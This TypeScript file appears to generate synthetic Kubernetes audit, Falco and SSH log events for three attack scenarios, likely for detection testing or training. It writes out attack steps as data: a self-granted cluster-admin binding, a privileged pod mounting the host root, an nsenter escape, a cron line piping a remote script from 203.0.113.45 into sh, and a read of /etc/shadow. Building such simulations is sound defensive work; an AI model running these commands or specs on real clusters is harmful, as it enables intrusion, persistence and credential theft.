/**
 * Stories (c)–(e): RBAC self-escalation to cluster-admin, a privileged
 * hostPath pod planted in kube-system, and an SSH brute force on a node that
 * ends in stolen service-account credentials. See stories.ts for the rest.
 */
import { NODE_GROUPS, SA_GROUPS, WHY } from "./audit";
import { execQuery, Story, terminalShell, type Actor } from "./story-kit";
import { clusterOf, personOf, workloadOf, type Container, type Pod, type Workload } from "./topology";

const RBAC = "rbac.authorization.k8s.io";

/** (c) A contractor, denied, finds his group may bind roles and binds himself to cluster-admin; uses it; removes it. */
export function escalationStory(s: Story): void {
  const cl = clusterOf(s.estate, "prod-us-1");
  const dave = personOf("dave");
  const who: Actor = { user: dave.username, groups: dave.groups, ip: dave.ip, agent: dave.agent, why: WHY.view };
  const asAdmin: Actor = { ...who, why: 'RBAC: allowed by ClusterRoleBinding "dave-debug-access" of ClusterRole "cluster-admin" to User "dave@corp.example"' };
  const viaTools: Actor = { ...who, why: 'RBAC: allowed by ClusterRoleBinding "contractor-tools" of ClusterRole "contractor-tools" to Group "oidc:contractors"' };
  const c = cl.name;
  s.audit(c, who, { verb: "list", resource: "secrets", ns: "payments", query: "limit=500", code: 403 }).wait(20);
  s.audit(c, who, { verb: "list", resource: "nodes", query: "limit=500", code: 403 }).wait(45);
  s.audit(c, who, { verb: "create", resource: "selfsubjectaccessreviews", group: "authorization.k8s.io" }).wait(30);
  s.audit(c, who, { verb: "get", resource: "clusterroles", group: RBAC, name: "cluster-admin" }).wait(70);
  const crb = {
    kind: "ClusterRoleBinding", apiVersion: `${RBAC}/v1`, metadata: { name: "dave-debug-access" },
    roleRef: { apiGroup: RBAC, kind: "ClusterRole", name: "cluster-admin" },
    subjects: [{ kind: "User", apiGroup: RBAC, name: dave.username }],
  };
  const created = { ...crb, metadata: { name: "dave-debug-access", uid: s.rng.uuid(), resourceVersion: String(s.rng.range(10_000_000, 99_999_999)), creationTimestamp: new Date(s.t).toISOString().slice(0, 19) + "Z" } };
  s.audit(c, viaTools, { verb: "create", resource: "clusterrolebindings", group: RBAC, name: "dave-debug-access", query: "fieldManager=kubectl-create&fieldValidation=Strict", requestObject: crb, responseObject: created }).wait(25);
  s.audit(c, asAdmin, { verb: "list", resource: "secrets", query: "limit=500" }).wait(12);
  s.audit(c, asAdmin, { verb: "get", resource: "secrets", ns: "payments", name: "stripe-api-key" }).wait(8);
  s.audit(c, asAdmin, { verb: "get", resource: "configmaps", ns: "kube-system", name: "aws-auth" }).wait(40);
  const pod = workloadOf(cl, "checkout").pods[1];
  const ct = pod.containers[0];
  s.audit(c, asAdmin, { verb: "create", resource: "pods", ns: pod.namespace, name: pod.name, subresource: "exec", query: execQuery(ct), code: 101, latencyMs: 210_000 }, 210_000);
  s.wait(0.7);
  terminalShell(s, ct);
  s.wait(35).falco({
    ct, rule: "Launch Ingress Remote File Copy Tools in Container", priority: "Notice", tags: ["maturity_sandbox", "container", "network", "process", "mitre_command_and_control", "TA0011"],
    text: "Detected ingress remote file copy tool launched in container", detail: "evt_type=execve",
    proc: { name: "curl", cmdline: "curl -sSLo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl", exepath: "/usr/bin/curl", pname: "sh" },
  });
  s.wait(175);
  // Forty minutes later the binding is gone again: covering tracks.
  s.wait(2400).audit(c, asAdmin, { verb: "delete", resource: "clusterrolebindings", group: RBAC, name: "dave-debug-access" });
}

/** (d) Leaked CI credentials used from outside to plant a privileged pod with the node's / mounted, then persistence via cron. */
export function privilegedPodStory(s: Story): void {
  const cl = clusterOf(s.estate, "prod-eu-1");
  const node = cl.nodes[1];
  const ci = personOf("ci-bot");
  const who: Actor = { user: ci.username, groups: ci.groups, ip: "203.0.113.45", agent: ci.agent, why: 'RBAC: allowed by ClusterRoleBinding "ci-deployers" of ClusterRole "cluster-admin" to Group "ci:deployers"' };
  const name = `aws-node-debug-${s.rng.chars(5)}`;
  const wl: Workload = { cluster: cl.name, namespace: "kube-system", name, kind: "Pod", sa: "default", privileged: true, pods: [] };
  const pod: Pod = { cluster: cl.name, namespace: "kube-system", name, uid: s.rng.uuid(), ip: node.ip, node, workload: wl, containers: [], hash: "" };
  const image = "docker.io/library/alpine:3.19";
  const id = s.rng.hex(64);
  const ct: Container = {
    pod, name: "shell", image, id, log: "klog", weight: 0,
    meta: { pod_name: name, namespace_name: "kube-system", pod_id: pod.uid, labels: { run: name }, host: node.name, container_name: "shell", docker_id: id, container_image: image },
  };
  pod.containers.push(ct);
  const spec = {
    kind: "Pod", apiVersion: "v1", metadata: { name, namespace: "kube-system", labels: { run: name } },
    spec: {
      nodeName: node.name, hostPID: true, hostNetwork: true, tolerations: [{ operator: "Exists" }],
      containers: [{ name: "shell", image, command: ["sleep", "infinity"], stdin: true, tty: true, securityContext: { privileged: true }, volumeMounts: [{ name: "host", mountPath: "/host" }] }],
      volumes: [{ name: "host", hostPath: { path: "/", type: "Directory" } }],
    },
  };
  const c = cl.name;
  s.audit(c, who, { verb: "list", resource: "nodes", query: "limit=500" }).wait(20);
  s.audit(c, who, { verb: "create", resource: "pods", ns: "kube-system", query: "fieldManager=kubectl-run", requestObject: spec, responseObject: { ...spec, metadata: { ...spec.metadata, uid: pod.uid } } }).wait(1);
  s.kube({ pod, container: ct, reason: "Pulling", message: `Pulling image "${image}"` }).wait(3);
  s.kube({ pod, container: ct, reason: "Pulled", message: `Successfully pulled image "${image}" in 2.114s (2.114s including waiting). Image size: 3408729 bytes.` }).wait(0.3);
  s.kube({ pod, container: ct, reason: "Created", message: "Created container shell" }).wait(0.2);
  s.kube({ pod, container: ct, reason: "Started", message: "Started container shell" }).wait(0.1);
  s.falco({ ct, rule: "Launch Privileged Container", priority: "Informational", tags: ["maturity_incubating", "container", "cis", "mitre_execution", "T1610", "PCI_DSS_10.2.5"],
    text: "Privileged container started", detail: "evt_type=container", proc: { name: "container:" + id.slice(0, 12), cmdline: "container:" + id.slice(0, 12), exepath: "", pname: "<NA>" } }).wait(25);
  s.audit(c, who, { verb: "create", resource: "pods", ns: "kube-system", name, subresource: "attach", query: "container=shell&stdin=true&stdout=true&tty=true", code: 101, latencyMs: 300_000 }, 300_000);
  s.wait(0.5);
  terminalShell(s, ct);
  s.wait(14).falco({ ct, rule: "Change thread namespace", priority: "Notice", tags: ["maturity_incubating", "host", "container", "process", "mitre_privilege_escalation", "T1611"],
    text: "Namespace change (setns) by unexpected program", detail: "evt_type=setns", proc: { name: "nsenter", cmdline: "nsenter -t 1 -m -u -i -n sh", exepath: "/usr/bin/nsenter", pname: "sh" } }).wait(30);
  const cron = "*/5 * * * * root curl -fsSL http://203.0.113.45/k.sh | sh";
  s.falco({ ct, rule: "Write below etc", priority: "Error", tags: ["maturity_incubating", "host", "container", "filesystem", "mitre_persistence", "T1098"],
    text: "File below /etc opened for writing", detail: "file=/etc/crontab pcmdline=nsenter -t 1 -m -u -i -n sh gparent=sh evt_type=openat",
    proc: { name: "sh", cmdline: `sh -c echo '${cron}' >> /etc/crontab`, exepath: "/bin/sh", pname: "nsenter" }, extra: { "fd.name": "/etc/crontab" } });
  s.wait(255);
  for (let i = 0; i < 4; i++) {
    s.wait(300).journal({ node, ident: "CROND", pid: s.rng.range(20000, 90000), priority: 6, unit: "crond.service", facility: 9, message: "(root) CMD (curl -fsSL http://203.0.113.45/k.sh | sh)", actor: "root" });
  }
  s.wait(60).audit(c, who, { verb: "delete", resource: "pods", ns: "kube-system", name });
  s.wait(0.5).kube({ pod, container: ct, reason: "Killing", message: "Stopping container shell" });
}

/** (e) SSH brute force on a node, a successful login, sudo, then the node's and a pod's credentials used against the API. */
export function nodeBreakInStory(s: Story): void {
  const cl = clusterOf(s.estate, "prod-us-1");
  const argo = workloadOf(cl, "argocd-application-controller").pods[0];
  const node = argo.node;
  const ip = "203.0.113.23";
  const users = ["root", "admin", "ubuntu", "test", "oracle", "ec2-user", "postgres", "root", "deploy"];
  // One sshd process per connection, so the lines of one attempt share a pid.
  let pid = 0;
  const sshd = (message: string, priority = 6, actor?: string) =>
    s.journal({ node, ident: "sshd", pid, priority, facility: 10, message, actor, sourceIp: ip });
  for (let i = 0; i < 48; i++) {
    const u = users[i % users.length];
    const port = s.rng.range(32768, 60999);
    const known = u === "root" || u === "ec2-user";
    pid = s.rng.range(20000, 90000);
    if (!known) sshd(`Invalid user ${u} from ${ip} port ${port}`, 6, u).wait(0.9);
    sshd(`Failed password for ${known ? "" : "invalid user "}${u} from ${ip} port ${port} ssh2`, 6, u);
    if (i % 6 === 5) sshd(`error: maximum authentication attempts exceeded for ${known ? "" : "invalid user "}${u} from ${ip} port ${port} ssh2 [preauth]`, 3, u);
    s.wait(2.2);
  }
  pid = s.rng.range(20000, 90000);
  const sessionPort = s.rng.range(32768, 60999);
  sshd(`Accepted password for ec2-user from ${ip} port ${sessionPort} ssh2`, 6, "ec2-user");
  sshd("pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by (uid=0)", 6, "ec2-user");
  s.journal({ node, ident: "systemd-logind", pid: 1123, priority: 6, facility: 4, message: "New session 87 of user ec2-user." }).wait(21);
  s.journal({ node, ident: "sudo", pid: s.rng.range(20000, 90000), priority: 5, facility: 10, unit: "session-87.scope", message: "ec2-user : TTY=pts/1 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/bin/bash", actor: "ec2-user" });
  s.journal({ node, ident: "sudo", pid: s.rng.range(20000, 90000), priority: 6, facility: 10, unit: "session-87.scope", message: "pam_unix(sudo:session): session opened for user root(uid=0) by ec2-user(uid=1000)", actor: "ec2-user" }).wait(9);
  s.falco({ ct: null, node, rule: "Read sensitive file untrusted", priority: "Warning", tags: ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
    text: "Sensitive file opened for reading by non-trusted program", detail: "file=/etc/shadow gparent=sudo ggparent=sshd evt_type=openat",
    proc: { name: "cat", cmdline: "cat /etc/shadow", exepath: "/usr/bin/cat", pname: "bash" }, extra: { "fd.name": "/etc/shadow" } }).wait(60);
  // The kubelet's own identity: the node authorizer refuses what the node has no business doing.
  const asNode: Actor = { user: `system:node:${node.name}`, groups: NODE_GROUPS, ip: node.ip, agent: "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625" };
  const target = workloadOf(cl, "payments-api").pods[0];
  const tct = target.containers[0];
  s.audit(cl.name, asNode, { verb: "list", resource: "secrets", query: "limit=500", code: 403 }).wait(5);
  s.audit(cl.name, asNode, { verb: "create", resource: "pods", ns: target.namespace, name: target.name, subresource: "exec", query: execQuery(tct), code: 403, latencyMs: 4 }).wait(90);
  // Then a token lifted from /var/lib/kubelet/pods/<uid>/volumes of the Argo CD pod on this node.
  const asArgo: Actor = { user: "system:serviceaccount:argocd:argocd-application-controller", groups: SA_GROUPS("argocd"), ip: node.ip, agent: asNode.agent, why: WHY.argocd };
  s.audit(cl.name, asArgo, { verb: "list", resource: "secrets", query: "limit=500" }).wait(15);
  s.audit(cl.name, asArgo, { verb: "create", resource: "pods", ns: target.namespace, name: target.name, subresource: "exec", query: execQuery(tct), code: 101, latencyMs: 120_000 }, 120_000);
  s.wait(0.5);
  terminalShell(s, tct);
  s.wait(40).log(tct, "sh: can't access tty; job control turned off", "warning", "stderr");
  s.wait(80).audit(cl.name, asArgo, { verb: "get", resource: "secrets", ns: "payments", name: "stripe-api-key" });
  s.wait(120);
  sshd(`Received disconnect from ${ip} port ${sessionPort}:11: disconnected by user`, 6, "ec2-user");
}
